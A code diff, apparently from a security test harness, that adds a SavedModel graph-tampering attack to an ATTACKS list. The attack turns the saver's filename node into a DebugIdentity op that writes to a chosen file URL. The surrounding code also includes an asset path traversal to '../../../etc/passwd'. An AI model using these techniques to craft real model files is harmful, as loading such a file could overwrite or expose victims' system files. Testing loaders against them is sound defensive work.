@@ -84,6 +84,13 @@ def by_restoring_another_file(graph, target):
                 return
 
 
+def by_giving_the_name_of_the_files(graph, target):
+    given = graph.saver_def.filename_tensor_name.split(":")[0]
+    (node,) = (n for n in graph.graph_def.node if n.name == given)
+    node.op = "DebugIdentity"
+    node.attr["debug_urls"].list.s.append(b"file://" + os.fsencode(target))
+
+
 def by_an_asset(graph, target):
     graph.asset_file_def.add(filename="../../../etc/passwd").tensor_info.name = "Const:0"
 
@@ -124,8 +131,9 @@ def by_calls_that_double(graph, target):
 ATTACKS = [
     in_the_initializer, as_a_main_op, in_a_function, where_weights_are_restored,
     by_saving_in_place_of_restoring, by_asking_for_what_saves, by_restoring_another_file,
-    by_an_asset, by_a_resource, by_a_registered_class, by_a_function_called_like_an_operation,
-    by_a_function_that_is_not_there, by_a_function_that_calls_itself, by_calls_that_double,
+    by_giving_the_name_of_the_files, by_an_asset, by_a_resource, by_a_registered_class,
+    by_a_function_called_like_an_operation, by_a_function_that_is_not_there,
+    by_a_function_that_calls_itself, by_calls_that_double,
 ]  # fmt: skip
 
 
